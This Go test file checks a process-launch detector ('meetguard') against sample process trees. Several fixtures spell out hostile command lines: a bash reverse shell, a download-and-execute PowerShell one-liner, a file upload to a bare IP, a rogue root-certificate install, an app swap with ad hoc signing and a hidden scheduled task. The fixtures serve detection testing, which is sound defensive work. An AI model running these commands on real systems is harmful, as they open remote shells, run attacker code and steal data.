package detect_test

import (
	"strings"
	"testing"
	"time"

	"meetguard"
	"meetguard/internal/chain"
)

var noon = time.Date(2026, 11, 20, 12, 0, 0, 0, time.UTC)

// play runs lines of "depth|exe|command line" through the tracker and gives the
// rules that fired, of all launches together. The line before with a depth that
// is one less is the parent; a command line of "?" is unknown.
func play(t *testing.T, system, lines string) string {
	t.Helper()
	track, j := chain.New(), judge(t)
	fired := map[string]bool{}
	var out []string
	parents := map[int]int{-1: 1}
	for i, line := range strings.Split(strings.TrimSpace(lines), "\n") {
		part := strings.SplitN(strings.TrimSpace(line), "|", 3)
		depth := strings.Count(part[0], ">")
		p := &meetguard.Process{OS: system, PID: 100 + i, PPID: parents[depth-1], Exe: part[1], Started: noon.Add(time.Duration(i) * time.Second)}
		parents[depth] = p.PID
		if part[2] != "?" {
			p.Args = append([]string{part[1]}, chain.Split(system, part[2])...)
			p.CommandLine = part[1] + " " + part[2]
		}
		track.Ancestry(p)
		f := meetguard.Facts{Path: p.Exe, Process: p, Signature: unknown, Claims: []meetguard.Claim{}}
		track.Add(&f)
		v := j.Judge(f)
		if v.Level == meetguard.Clean || v.Level == meetguard.Incomplete {
			continue
		}
		for _, x := range v.Findings {
			if !fired[x.Rule] {
				fired[x.Rule] = true
				out = append(out, x.Rule)
			}
		}
	}
	return strings.Join(out, " ")
}

func TestLaunchTrees(t *testing.T) {
	const home = `C:\Users\ana`
	for _, tc := range []struct{ name, system, lines, rule string }{
		{"library in a mounted image", "windows", `|C:\Windows\explorer.exe|
			>|C:\Windows\System32\rundll32.exe|"E:\.data\call.dll",Start`, "MG-PROC-LOADER"},
		{"a setup's own library", "windows", `|C:\Windows\explorer.exe|
			>|C:\Windows\System32\regsvr32.exe|/s ` + home + `\AppData\Local\Programs\Notepads\thumb.dll`, ""},
		{"browser, and nothing known", "windows", `|C:\Program Files\Google\Chrome\Application\chrome.exe|
			>|C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe|?`, "MG-PROC-DOOR-HOST"},
		{"run window, and nothing known", "windows", `|C:\Windows\explorer.exe|
			>|C:\Windows\System32\certutil.exe|?`, "MG-PROC-DOOR-HOST"},
		{"shell of which nothing is known, then a script", "windows", `|C:\Windows\explorer.exe|
			>|C:\Windows\System32\cmd.exe|?
			>>|C:\Windows\System32\wscript.exe|` + home + `\AppData\Local\Temp\cam\update.vbs`, "MG-PROC-DOOR-HOST"},
		{"program in a hidden temporary folder", "linux", `|/usr/libexec/gnome-terminal-server|
			>|/usr/bin/bash|
			>>|/tmp/.X11-unix/xw|`, "MG-PROC-HIDDEN-FILE"},
		{"own script made in Script Editor", "darwin", `|/System/Applications/Utilities/Script Editor.app/Contents/MacOS/Script Editor|
			>|/usr/bin/osascript|-e "tell application Finder to get name"
			>|/usr/bin/osacompile|-o "/Users/ana/Library/Script Libraries/Mail.scptd" /Users/ana/dev/Mail.applescript`, ""},
		{"old machine's profile", "darwin", `|/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal|
			>|/bin/sh|/Users/ana/move.sh
			>>|/bin/cp|/Volumes/Old/Users/ana/Library/Keychains/login.keychain-db /Users/ana/Desktop/old.keychain-db`, ""},
		{"control panel", "windows", `|C:\Windows\explorer.exe|
			>|C:\Windows\System32\rundll32.exe|shell32.dll,Control_RunDLL mmsys.cpl`, ""},
		{"side-load", "windows", `|C:\Windows\explorer.exe|
			>|` + home + `\AppData\Roaming\Addin\Updater.exe|
			>>|C:\Windows\System32\rundll32.exe|` + home + `\AppData\Roaming\Addin\version.dll,Run`, "MG-PROC-LOADER"},
		{"the real add-in", "windows", `|C:\Program Files\WindowsApps\MSTeams_1_x64__8wekyb3d8bbwe\ms-teams.exe|
			>|C:\Windows\System32\regsvr32.exe|/s /n /i:user "` + home + `\AppData\Local\Microsoft\TeamsMeetingAdd-in\1\x64\AddinLoader.dll"`, ""},
		{"library on a share", "windows", `|C:\Windows\explorer.exe|
			>|C:\Windows\System32\rundll32.exe|\\call.invalid@SSL\DavWWWRoot\cam.dll,Fix`, "MG-PROC-LOLBIN"},
		{"library of the company's server", "windows", `|C:\Windows\System32\services.exe|
			>|C:\Windows\System32\regsvr32.exe|/s \\fileserver\tools\acme.dll`, ""},
		{"behind a console without a window", "windows", `|C:\Windows\explorer.exe|
			>|C:\Windows\System32\conhost.exe|--headless powershell -c "irm https://call.invalid/a | iex"`, "MG-PROC-RUN-BOX"},
		{"ssh through a jump host", "windows", `|C:\Windows\explorer.exe|
			>|C:\Windows\System32\OpenSSH\ssh.exe|-o ProxyCommand="ssh -W %h:%p jump.example.com" build.example.com`, ""},
		{"reverse shell", "linux", `|/usr/libexec/gnome-terminal-server|
			>|/usr/bin/bash|
			>>|/usr/bin/bash|-c "bash -i >& /dev/tcp/192.0.2.21/443 0>&1"`, "MG-PROC-INLINE"},
		{"waits for a port", "linux", `|/usr/bin/bash|
			>|/usr/bin/bash|-c "echo > /dev/tcp/192.0.2.21/5432"`, ""},
		{"portable interpreter", "windows", `|C:\Windows\explorer.exe|
			>|` + home + `\Downloads\call-setup.exe|
			>>|` + home + `\AppData\Local\Temp\rt\node.exe|-e "eval(Buffer.from('YQ==','base64').toString())"`, "MG-PROC-INLINE"},
		{"brought, command unknown", "windows", `|C:\Windows\explorer.exe|
			>|` + home + `\Downloads\call-setup.exe|
			>>|` + home + `\AppData\Local\Temp\rt\node.exe|?`, "MG-PROC-PORTABLE"},
		{"installed interpreter", "linux", `|/usr/bin/bash|
			>|/usr/bin/python3|-c "import socket; print(socket.socket)"`, ""},
		{"hidden script", "darwin", `|/bin/sh|/private/tmp/.sync.sh`, "MG-PROC-HIDDEN-FILE"},
		{"mounted AppImage", "linux", `|/tmp/.mount_ObsidiaQ1/obsidian|`, ""},
		{"certificate", "darwin", `|/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal|
			>|/bin/zsh|-l
			>>|/usr/bin/curl|-sk https://ca.invalid/ca.pem -o /tmp/ca.pem
			>>|/usr/bin/security|add-trusted-cert -d -r trustRoot -k /Library/Keychains/System.keychain /tmp/ca.pem`, "MG-PROC-TRUST"},
		{"own certificate", "darwin", `|/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal|
			>|/bin/zsh|-l
			>>|/usr/bin/security|add-trusted-cert -d -r trustRoot -k /Library/Keychains/System.keychain /Users/ana/dev/rootCA.pem`, ""},
		{"app replaced", "darwin", `|/usr/bin/osascript|
			>|/bin/sh|?
			>>|/usr/bin/curl|-s https://wallet.invalid/a.zip -o /tmp/a.zip
			>>|/bin/rm|-rf /Applications/Wallet.app
			>>|/bin/cp|-R /tmp/Wallet.app /Applications/
			>>|/usr/bin/codesign|--force --deep -s - /Applications/Wallet.app`, "MG-PROC-REPLACED"},
		{"own build signed", "darwin", `|/bin/zsh|-l
			>|/usr/bin/make|install
			>>|/usr/bin/codesign|--force --deep -s - /Applications/Mine.app`, ""},
		{"report to a bare address", "windows", `|` + home + `\AppData\Local\slack\Updater.exe|--silent
			>|C:\Windows\System32\curl.exe|-T ` + home + `\AppData\Local\Temp\o.txt http://192.0.2.19:8080/`, "MG-PROC-REPORTED"},
		{"icon that fetches", "linux", `|/usr/bin/nautilus|
			>|/usr/bin/gio|?
			>>|/usr/bin/sh|?
			>>>|/usr/bin/wget|?`, "MG-PROC-DESKTOP-FETCH"},
		{"developer that fetches", "linux", `|/usr/bin/gnome-shell|
			>|/usr/libexec/gnome-terminal-server|
			>>|/usr/bin/bash|
			>>>|/usr/bin/wget|?`, ""},
		{"script host, then a stranger", "windows", `|C:\Windows\explorer.exe|
			>|C:\Windows\System32\mshta.exe|?
			>>|` + home + `\AppData\Local\Temp\0c7bd551.exe|`, "MG-PROC-DROPPED"},
		{"library unknown, then a stranger", "windows", `|C:\Windows\explorer.exe|
			>|C:\Windows\System32\rundll32.exe|?
			>>|` + home + `\AppData\Local\CallCache\svc.exe|`, "MG-PROC-DROPPED"},
		{"task out of sight", "windows", `|C:\Windows\explorer.exe|
			>|C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe|?
			>>|C:\Windows\System32\schtasks.exe|/create /tn Update /tr "powershell -w h -f ` + home + `\AppData\Roaming\z.ps1" /sc minute /f`, "MG-PROC-HIDDEN-TASK"},
		{"false package", "windows", `|C:\Program Files\WindowsApps\TeamsDesktop_1.0.0.0_x64__140623fa\AiStubs\AiStubX64.exe|
			>|C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe|?`, "MG-PROC-STORE-CHILD"},
		{"the store's own package", "windows", `|C:\Program Files\WindowsApps\MSTeams_1.0.0.0_x64__8wekyb3d8bbwe\ms-teams.exe|
			>|C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe|?`, ""},
		{"false daemon", "darwin", `|/Library/Fonts/com.apple.logd|-d`, "MG-PROC-SYSTEM-NAME"},
		{"WebDAV client", "windows", `|C:\Windows\System32\svchost.exe|-k LocalService
			>|C:\Windows\System32\rundll32.exe|C:\WINDOWS\system32\davclnt.dll,DavSetCookie corp.sharepoint.com https://corp.sharepoint.com/sites/x`, ""},
		{"password check below an applet", "darwin", `|/private/tmp/systemupdate.app/Contents/MacOS/applet|
			>|/bin/sh|?
			>>|/usr/bin/dscl|. -authonly ana secret`, "MG-PROC-PASSWORD-CHECK"},
		{"own password", "darwin", `|/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal|
			>|/bin/zsh|?
			>>|/usr/bin/dscl|. -authonly ana secret`, ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got := play(t, tc.system, tc.lines)
			if tc.rule == "" && got != "" || !strings.Contains(" "+got+" ", " "+tc.rule+" ") && tc.rule != "" {
				t.Errorf("fired %q, want %q", got, tc.rule)
			}
		})
	}
}

func TestLandedIsContext(t *testing.T) {
	j := judge(t)
	f := meetguard.Facts{Path: "/home/ana/Downloads/tool", Format: meetguard.FormatELF, Signature: none,
		Process: &meetguard.Process{OS: "linux", Exe: "/home/ana/Downloads/tool", Started: noon},
		Landed:  &meetguard.Landing{Time: noon.Add(-5 * time.Minute), Host: "files.invalid"}}
	v := j.Judge(f)
	if len(v.Findings) != 1 || v.Findings[0].Rule != "MG-PROC-LANDED" || v.Level != meetguard.Clean {
		t.Errorf("minutes after landing: %+v", v)
	}
	f.Landed.Time = noon.Add(-11 * time.Minute)
	if v := j.Judge(f); len(v.Findings) != 0 {
		t.Errorf("later: %+v", v)
	}
	f.Landed.Time, f.Signature = noon, unknown
	if v := j.Judge(f); len(v.Findings) != 0 {
		t.Errorf("of a program whose signature is unknown: %+v", v)
	}
}
